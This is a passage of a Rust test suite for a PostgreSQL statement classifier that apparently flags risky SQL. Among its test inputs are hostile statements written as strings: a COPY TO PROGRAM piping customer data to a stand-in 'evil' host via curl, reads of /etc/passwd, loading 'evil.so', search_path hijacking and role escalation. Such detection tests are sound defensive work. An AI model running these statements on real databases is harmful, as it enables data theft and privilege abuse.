            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
        );
        assert!(st.tables_read.is_empty());
        // Schema-qualified name is never a CTE.
        let st = one("WITH t AS (SELECT 1) SELECT * FROM public.t");
        assert_eq!(st.tables_read, s(&["public.t"]));
    }

    #[test]
    fn classify_insert_select() {
        let st = one("INSERT INTO archive (id, v) SELECT id, v FROM live WHERE v > now() RETURNING id");
        assert_eq!(st.kind, Some(K::Insert));
        assert_eq!(st.command, "InsertStmt");
        assert_eq!(st.tables_written, s(&["public.archive"]));
        assert_eq!(st.tables_read, s(&["public.live"]));
        assert_eq!(st.functions, s(&["now"]));
        let st = one(
            "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = EXCLUDED.a + (SELECT 1 FROM u)",
        );
        assert_eq!(st.kind, Some(K::Insert));
        assert_eq!(st.tables_written, s(&["public.t"]));
        assert_eq!(st.tables_read, s(&["public.u"]));
    }

    #[test]
    fn classify_update() {
        let st = one("UPDATE accounts SET balance = 0");
        assert_eq!(st.kind, Some(K::Update));
        assert_eq!(st.tables_written, s(&["public.accounts"]));
        assert!(st.tables_read.is_empty());
        assert!(!st.has_where);
        let st = one("UPDATE accounts a SET balance = b.v FROM bal b WHERE a.id = b.id");
        assert_eq!(st.kind, Some(K::Update));
        assert!(st.has_where);
        assert_eq!(st.tables_read, s(&["public.bal"]));
        assert_eq!(st.tables_written, s(&["public.accounts"]));
    }

    #[test]
    fn classify_delete() {
        let st = one("DELETE FROM orders o USING customers c WHERE o.cid = c.id AND c.gone");
        assert_eq!(st.kind, Some(K::Delete));
        assert_eq!(st.tables_written, s(&["public.orders"]));
        assert_eq!(st.tables_read, s(&["public.customers"]));
        assert!(st.has_where);
        let st = one("DELETE FROM orders");
        assert!(!st.has_where);
    }

    #[test]
    fn classify_merge() {
        let st = one("MERGE INTO stock s USING deliveries d ON s.item = d.item \
             WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty \
             WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)");
        assert_eq!(st.kind, Some(K::Merge));
        assert_eq!(st.command, "MergeStmt");
        assert_eq!(st.tables_written, s(&["public.stock"]));
        assert_eq!(st.tables_read, s(&["public.deliveries"]));
        assert!(st.has_where);
    }

    #[test]
    fn classify_data_modifying_cte() {
        let st = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
        assert_eq!(st.kind, Some(K::Delete));
        assert_eq!(st.command, "SelectStmt");
        assert_eq!(st.tables_written, s(&["public.t"]));
        assert!(st.tables_read.is_empty());
        assert!(!st.has_where);
        let st =
            one("WITH u AS (UPDATE t SET x = 1 WHERE id = 2 RETURNING *) INSERT INTO log SELECT * FROM u");
        assert_eq!(st.kind, Some(K::Update));
        assert!(st.has_where);
        assert_eq!(st.tables_written, s(&["public.log", "public.t"]));
        let st =
            one("WITH a AS (UPDATE t SET x = 1 WHERE id = 2), b AS (DELETE FROM q WHERE id = 3) SELECT 1");
        assert_eq!(st.kind, Some(K::Delete));
        assert!(st.has_where);
        // One unqualified UPDATE makes the whole statement unqualified.
        let st = one("WITH a AS (UPDATE t SET x = 1) DELETE FROM q WHERE id = 3");
        assert_eq!(st.kind, Some(K::Delete));
        assert!(!st.has_where);
    }

    #[test]
    fn classify_select_into_and_create_table_as() {
        let st = one("SELECT * INTO backup FROM customers");
        assert_eq!(st.kind, Some(K::Ddl));
        assert_eq!(st.command, "SelectStmt");
        assert_eq!(st.tables_written, s(&["public.backup"]));
        assert_eq!(st.tables_read, s(&["public.customers"]));
        let st = one("CREATE TABLE x.copy AS SELECT * FROM customers");
        assert_eq!(st.kind, Some(K::Ddl));
        assert_eq!(st.command, "CreateTableAsStmt");
        assert_eq!(st.tables_written, s(&["x.copy"]));
        assert_eq!(st.tables_read, s(&["public.customers"]));
        let st = one("CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM orders");
        assert_eq!(st.kind, Some(K::Ddl));
        assert_eq!(st.tables_written, s(&["public.mv"]));
        assert_eq!(st.functions, s(&["count"]));
    }

    #[test]
    fn classify_ddl() {
        let st = one("TRUNCATE a, s.b");
        assert_eq!(st.kind, Some(K::Ddl));
        assert_eq!(st.command, "TruncateStmt");
        assert_eq!(st.tables_written, s(&["public.a", "s.b"]));
        assert!(st.tables_read.is_empty());
        let st = one("DROP TABLE IF EXISTS customers, archive.old CASCADE");
        assert_eq!(st.kind, Some(K::Ddl));
        assert_eq!(st.command, "DropStmt");
        assert_eq!(st.tables_written, s(&["archive.old", "public.customers"]));
        let st = one("DROP TRIGGER trg ON s.t");
        assert_eq!(st.tables_written, s(&["s.t"]));
        let st = one("DROP INDEX idx");
        assert_eq!(st.kind, Some(K::Ddl));
        assert!(st.tables_written.is_empty());
        let st = one(
            "CREATE TABLE t (id int DEFAULT nextval('seq'), cid int REFERENCES customers(id), LIKE tmpl)",
        );
        assert_eq!(st.kind, Some(K::Ddl));
        assert_eq!(st.command, "CreateStmt");
        assert_eq!(st.tables_written, s(&["public.t"]));
        assert_eq!(st.tables_read, s(&["public.customers", "public.tmpl"]));
        assert_eq!(st.functions, s(&["nextval"]));
        let st = one("ALTER TABLE customers ADD COLUMN x int");
        assert_eq!(st.kind, Some(K::Ddl));
        assert_eq!(st.tables_written, s(&["public.customers"]));
        let st = one("ALTER TABLE customers RENAME TO clients");
        assert_eq!(st.command, "RenameStmt");
        assert_eq!(st.tables_written, s(&["public.clients", "public.customers"]));
        let st = one("ALTER TABLE customers RENAME COLUMN a TO b");
        assert_eq!(st.tables_written, s(&["public.customers"]));
        let st = one("ALTER TABLE s.customers SET SCHEMA archive");
        assert_eq!(st.tables_written, s(&["archive.customers", "s.customers"]));
        let st = one("CREATE SCHEMA app CREATE TABLE t (id int) CREATE VIEW v AS SELECT * FROM other");
        assert_eq!(st.kind, Some(K::Ddl));
        assert_eq!(st.tables_written, s(&["app.t", "app.v"]));
        assert_eq!(st.tables_read, s(&["public.other"]));
        let st = one("CREATE INDEX ON orders (cid)");
        assert_eq!(st.tables_written, s(&["public.orders"]));
        let st = one("CREATE VIEW v AS SELECT * FROM customers");
        assert_eq!(st.tables_written, s(&["public.v"]));
        assert_eq!(st.tables_read, s(&["public.customers"]));
        let st = one("CREATE EXTENSION IF NOT EXISTS pgcrypto");
        assert_eq!(st.kind, Some(K::Ddl));
        let st = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'");
        assert_eq!(st.kind, Some(K::Ddl));
        assert!(st.functions.is_empty());
        let st = one("COMMENT ON COLUMN s.t.c IS 'x'");
        assert_eq!(st.tables_written, s(&["s.t"]));
        let st = one("ALTER SYSTEM SET work_mem = '64MB'");
        assert_eq!(st.kind, Some(K::Ddl));
        assert_eq!(st.command, "AlterSystemStmt");
        assert!(!st.sets_search_path);
    }

    #[test]
    fn classify_dcl() {
        let st = one("GRANT SELECT ON customers TO analyst");
        assert_eq!(st.kind, Some(K::Dcl));
        assert_eq!(st.command, "GrantStmt");
        assert_eq!(st.tables_written, s(&["public.customers"]));
        let st = one("REVOKE ALL ON s.t FROM PUBLIC");
        assert_eq!(st.kind, Some(K::Dcl));
        assert_eq!(st.command, "GrantStmt");
        let st = one("CREATE ROLE bob LOGIN PASSWORD 'x'");
        assert_eq!(st.kind, Some(K::Dcl));
        assert_eq!(st.command, "CreateRoleStmt");
        for sql in [
            "GRANT admin TO bob",
            "ALTER ROLE bob SUPERUSER",
            "ALTER ROLE bob SET work_mem = '1MB'",
            "DROP ROLE bob",
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
            "REASSIGN OWNED BY bob TO alice",
            "DROP OWNED BY bob",
        ] {
            assert_eq!(one(sql).kind, Some(K::Dcl), "{sql}");
        }
    }

    #[test]
    fn classify_copy() {
        let st = one("COPY customers (id, name) FROM STDIN WITH (FORMAT csv)");
        assert_eq!(st.kind, Some(K::Copy));
        assert_eq!(st.command, "CopyStmt");
        assert_eq!(st.tables_written, s(&["public.customers"]));
        assert!(st.tables_read.is_empty());
        assert!(!st.copy_program && !st.copy_server_file);

        let st = one("COPY customers TO STDOUT");
        assert_eq!(st.kind, Some(K::Copy));
        assert_eq!(st.tables_read, s(&["public.customers"]));
        assert!(st.tables_written.is_empty());
        assert!(!st.copy_program && !st.copy_server_file);

        let st = one("COPY customers TO PROGRAM 'curl -d @- http://evil'");
        assert!(st.copy_program);
        assert!(!st.copy_server_file);
        let st = one("COPY t FROM PROGRAM 'id'");
        assert!(st.copy_program);
        assert_eq!(st.tables_written, s(&["public.t"]));

        let st = one("COPY t FROM '/etc/passwd'");
        assert!(st.copy_server_file);
        assert!(!st.copy_program);
        let st = one("COPY t TO '/tmp/out.csv'");
        assert!(st.copy_server_file);

        let st = one("COPY (SELECT c.* FROM customers c JOIN orders o ON true) TO STDOUT");
        assert_eq!(st.kind, Some(K::Copy));
        assert_eq!(st.tables_read, s(&["public.customers", "public.orders"]));
        assert!(st.tables_written.is_empty());

        // A data-modifying COPY query stays a COPY but lists what it writes.
        let st = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
        assert_eq!(st.kind, Some(K::Copy));
        assert_eq!(st.tables_written, s(&["public.t"]));
        assert!(!st.has_where);
    }

    #[test]
    fn classify_transaction() {
        for sql in [
            "BEGIN",
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            "COMMIT",
            "ROLLBACK",
            "SAVEPOINT a",
            "RELEASE SAVEPOINT a",
            "ROLLBACK TO SAVEPOINT a",
            "PREPARE TRANSACTION 'x'",
            "COMMIT PREPARED 'x'",
        ] {
            let st = one(sql);
            assert_eq!(st.kind, Some(K::Transaction), "{sql}");
            assert_eq!(st.command, "TransactionStmt");
        }
    }

    #[test]
    fn classify_set_and_search_path() {
        let st = one("SET statement_timeout = 0");
        assert_eq!(st.kind, Some(K::Set));
        assert_eq!(st.command, "VariableSetStmt");
        assert!(!st.sets_search_path);
        let st = one("SHOW search_path");
        assert_eq!(st.kind, Some(K::Set));
        assert_eq!(st.command, "VariableShowStmt");
        assert!(!st.sets_search_path);
        for sql in [
            "SET search_path = evil, public",
            "SET LOCAL search_path TO evil",
            "SET SCHEMA 'evil'",
            r#"SET "SEARCH_PATH" = evil"#,
            "RESET search_path",
            "RESET ALL",
            "DISCARD ALL",
        ] {
            let st = one(sql);
            assert_eq!(st.kind, Some(K::Set), "{sql}");
            assert!(st.sets_search_path, "{sql}");
        }
        // Changes the search path of future (pooled) sessions.
        let st = one("ALTER ROLE bob SET search_path = evil");
        assert_eq!(st.kind, Some(K::Dcl));
        assert!(st.sets_search_path);
        for sql in [
            "SET ROLE admin",
            "SET LOCAL ROLE admin",
            "set session role \"Admin\"",
            "SET SESSION AUTHORIZATION bob",
        ] {
            assert_eq!(one(sql).kind, Some(K::Dcl), "{sql}");
        }
        for sql in [
            "RESET ROLE",
            "SET SESSION AUTHORIZATION DEFAULT",
            "RESET SESSION AUTHORIZATION",
        ] {
            assert_eq!(one(sql).kind, Some(K::Set), "{sql}");
        }
        let st = one("RESET work_mem");
        assert!(!st.sets_search_path);
        assert_eq!(one("DISCARD PLANS").kind, Some(K::Set));
        assert!(!one("DISCARD PLANS").sets_search_path);

        let st = one("SELECT set_config('Search_Path', 'evil', false)");
        assert_eq!(st.kind, Some(K::Select));
        assert!(st.sets_search_path);
        assert_eq!(st.functions, s(&["set_config"]));
        let st = one("SELECT pg_catalog.set_config('search_path'::text, 'evil', true)");
        assert!(st.sets_search_path);
        assert_eq!(st.functions, s(&["pg_catalog.set_config"]));
        let st = one("SELECT set_config('work_mem', '1MB', false)");
        assert!(!st.sets_search_path);
        // Not a constant: cannot tell, assume the worst.
        let st = one("SELECT set_config($1, 'evil', false)");
        assert!(st.sets_search_path);
    }

    #[test]
    fn classify_explain() {
        let st = one("EXPLAIN DELETE FROM t");
        assert_eq!(st.kind, Some(K::Utility));
        assert_eq!(st.command, "ExplainStmt");
        assert!(st.tables_written.is_empty());
        assert_eq!(st.tables_read, s(&["public.t"]));

        let st = one("EXPLAIN ANALYZE DELETE FROM t");
        assert_eq!(st.kind, Some(K::Delete));
        assert_eq!(st.command, "ExplainStmt");
        assert_eq!(st.tables_written, s(&["public.t"]));
        assert!(!st.has_where);

        let st = one("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2");
        assert_eq!(st.kind, Some(K::Update));
        assert!(st.has_where);
        let st = one("EXPLAIN (ANALYZE false) DELETE FROM t");
        assert_eq!(st.kind, Some(K::Utility));
        let st = one("EXPLAIN (ANALYZE on) SELECT * FROM t");
        assert_eq!(st.kind, Some(K::Select));
        assert_eq!(st.command, "ExplainStmt");
        let st = one("EXPLAIN ANALYZE EXECUTE p(1)");
        assert_eq!(st.kind, Some(K::Unknown));
        assert_eq!(st.command, "ExecuteStmt:p");
    }

    #[test]
    fn classify_utility() {
        for (sql, command) in [
            ("VACUUM ANALYZE customers", "VacuumStmt"),
            ("LISTEN chan", "ListenStmt"),
            ("NOTIFY chan, 'x'", "NotifyStmt"),
            ("UNLISTEN *", "UnlistenStmt"),
            ("CHECKPOINT", "CheckPointStmt"),
            ("FETCH 10 FROM c", "FetchStmt"),
            ("CLOSE c", "ClosePortalStmt"),
            ("DEALLOCATE p", "DeallocateStmt"),
            ("DEALLOCATE ALL", "DeallocateStmt"),
        ] {
            let st = one(sql);
            assert_eq!(st.kind, Some(K::Utility), "{sql}");
            assert_eq!(st.command, command, "{sql}");
        }
        let st = one("CALL app.do_things(1, now())");
        assert_eq!(st.kind, Some(K::Utility));
        assert_eq!(st.functions, s(&["app.do_things", "now"]));
        let st = one("LOCK TABLE customers IN ACCESS EXCLUSIVE MODE");
        assert_eq!(st.kind, Some(K::Utility));
        assert_eq!(st.tables_read, s(&["public.customers"]));
        let st = one("DECLARE c CURSOR FOR SELECT * FROM customers");
        assert_eq!(st.kind, Some(K::Select));
        assert_eq!(st.command, "DeclareCursorStmt");
        assert_eq!(st.tables_read, s(&["public.customers"]));
    }

    #[test]
    fn classify_unknown() {
        let st = one("DO $$ BEGIN DELETE FROM t; END $$");
        assert_eq!(st.kind, Some(K::Unknown));
        assert_eq!(st.command, "DoStmt");
        assert!(st.parse_error.is_none());
        let st = one("LOAD 'evil.so'");
        assert_eq!(st.kind, Some(K::Unknown));
        assert_eq!(st.command, "LoadStmt");
    }

    #[test]
    fn classify_parse_error() {
        let sql = "SELECT 1; SELEKT * FROM t; SELECT 2";
        let all = classify(sql);
        assert_eq!(all.len(), 1);
        let st = &all[0];
        assert_eq!(st.kind, Some(K::Unknown));
        assert_eq!(st.text, sql);
        assert!(st.parse_error.as_deref().unwrap().contains("syntax error"));
        let st = classify_one("SELECT FROM WHERE (");
        assert_eq!(st.kind(), K::Unknown);
        assert!(st.parse_error.is_some());
        let st = classify_one("SELECT 1\0");
        assert_eq!(st.kind(), K::Unknown);
        assert!(st.parse_error.is_some());
    }

    #[test]
    fn classify_multi_statement_texts() {
        let sql = "  SELECT 1 ;\nINSERT INTO t VALUES ('a;b');  -- trailing\n DELETE FROM t WHERE x = 1;  ";
        let all = classify(sql);
        let texts: Vec<&str> = all.iter().map(|st| st.text.as_str()).collect();
        assert_eq!(
            texts,
            [
                "SELECT 1",
                "INSERT INTO t VALUES ('a;b')",
                "DELETE FROM t WHERE x = 1"
            ]
        );
        let kinds: Vec<_> = all.iter().map(SqlStatement::kind).collect();
        assert_eq!(kinds, [K::Select, K::Insert, K::Delete]);

        // Leading comments are not part of a statement; inner and trailing ones are.
        let all = classify("/* app */ SELECT 1; SELECT /* x */ 2 -- end");
        let texts: Vec<&str> = all.iter().map(|st| st.text.as_str()).collect();
        assert_eq!(texts, ["SELECT 1", "SELECT /* x */ 2 -- end"]);

        let all = classify("SELECT 1; SELECT 2");
        let texts: Vec<&str> = all.iter().map(|st| st.text.as_str()).collect();
        assert_eq!(texts, ["SELECT 1", "SELECT 2"]);

        let st = classify_one("SELECT 1; SELECT 2");
        assert_eq!(st.kind(), K::Unknown);
        assert_eq!(st.parse_error.as_deref(), Some("multiple statements"));
    }

    #[test]
    fn classify_multibyte_texts_use_byte_offsets() {
        let all = classify("SELECT 'é€😀' FROM «t»; SELECT \"ü\" FROM \"Ärger\";");
        let texts: Vec<&str> = all.iter().map(|st| st.text.as_str()).collect();
        assert_eq!(texts, ["SELECT 'é€😀' FROM «t»", "SELECT \"ü\" FROM \"Ärger\""]);
        assert_eq!(all[1].tables_read, s(&["public.Ärger"]));
    }

    #[test]
    fn classify_empty() {
        assert!(classify("").is_empty());
        assert!(classify("   \n ").is_empty());
        assert!(classify("-- nothing here\n/* nor here */").is_empty());
        assert!(classify(";;").is_empty());
        let st = classify_one("");
        assert_eq!(st.kind, Some(K::Utility));
        assert_eq!(st.command, "EmptyQuery");
        assert!(st.parse_error.is_none());
    }

    #[test]
    fn classify_prepare_execute() {
        let st = one("PREPARE del(int) AS DELETE FROM orders WHERE id = $1");
        assert_eq!(st.kind, Some(K::Delete));
        assert_eq!(st.command, "PrepareStmt");
        assert_eq!(st.tables_written, s(&["public.orders"]));
        assert!(st.has_where);
        let st = one("PREPARE q AS SELECT * FROM customers");
        assert_eq!(st.kind, Some(K::Select));
        assert_eq!(st.tables_read, s(&["public.customers"]));
        let st = one("EXECUTE del(42)");
        assert_eq!(st.kind, Some(K::Unknown));
        assert_eq!(st.command, "ExecuteStmt:del");
        assert!(st.parse_error.is_none());
        let st = one("EXECUTE del(pg_read_file('/etc/passwd')::int)");
        assert_eq!(st.functions, s(&["pg_read_file"]));
    }

    #[test]
    fn classify_functions() {
        let st = one("SELECT pg_catalog.pg_read_file('/etc/passwd')");
        assert_eq!(st.functions, s(&["pg_catalog.pg_read_file"]));
        let st = one("SELECT lower(name) FROM customers WHERE id = abs(-1) \
             AND x IN (SELECT pg_read_file('/x') FROM generate_series(1, 2)) ORDER BY upper(name)");
        assert_eq!(
            st.functions,
            s(&["abs", "generate_series", "lower", "pg_read_file", "upper"])
        );
        assert_eq!(st.tables_read, s(&["public.customers"]));
        let st = one(r#"SELECT "Weird"(1), CASE WHEN coalesce(a, 1) > 0 THEN dblink_exec('x') END FROM t"#);
        assert_eq!(st.functions, s(&["Weird", "dblink_exec"]));
        let st = one("UPDATE t SET a = md5(b) WHERE c = any(array_agg_fn(d))");
        assert_eq!(st.functions, s(&["array_agg_fn", "md5"]));
    }

    #[test]
    fn classify_deep_but_reasonable_query() {
        let joins: String = (0..20).map(|i| format!(" JOIN t{i} ON true")).collect();
        let st = one(&format!("SELECT * FROM base{joins}"));
        assert_eq!(st.kind(), K::Select);
        assert_eq!(st.tables_read.len(), 21);
    }

    #[test]
    fn classify_pathologically_deep_query_is_unknown_not_a_crash() {
        let sql = format!("SELECT 1{}", " + 1".repeat(5_000));
        let all = classify(&sql);
        assert_eq!(all.len(), 1);
        assert_eq!(all[0].kind(), K::Unknown);
        assert!(all[0].parse_error.is_some());
    }

    #[test]
    fn classify_cache_returns_same_arc() {
        let cache = ClassifyCache::new(2);
        let a = cache.classify_one("SELECT * FROM customers");
        let b = cache.classify_one("SELECT * FROM customers");
        assert!(Arc::ptr_eq(&a, &b));
        assert_eq!(a.tables_read, s(&["public.customers"]));
        let c = cache.classify_one("SELECT 2");
        assert!(!Arc::ptr_eq(&a, &c));
        assert_eq!(cache.len(), 2);
        // Bounded: a third text evicts the least recently used.
        let _ = cache.classify_one("SELECT 3");
        assert_eq!(cache.len(), 2);
        let long = format!("SELECT '{}'", "x".repeat(MAX_CACHED_TEXT_LEN));
        let _ = cache.classify_one(&long);
        assert_eq!(cache.len(), 2);
        // Shared between threads.
        let cache = Arc::new(ClassifyCache::new(16));
        let handles: Vec<_> = (0..4)
            .map(|_| {
                let cache = Arc::clone(&cache);
                std::thread::spawn(move || cache.classify_one("DELETE FROM t"))
            })
            .collect();
        let results: Vec<_> = handles.into_iter().map(|h| h.join().unwrap()).collect();
        assert!(results.iter().all(|r| r.kind() == K::Delete));
        assert_eq!(cache.len(), 1);
    }
}
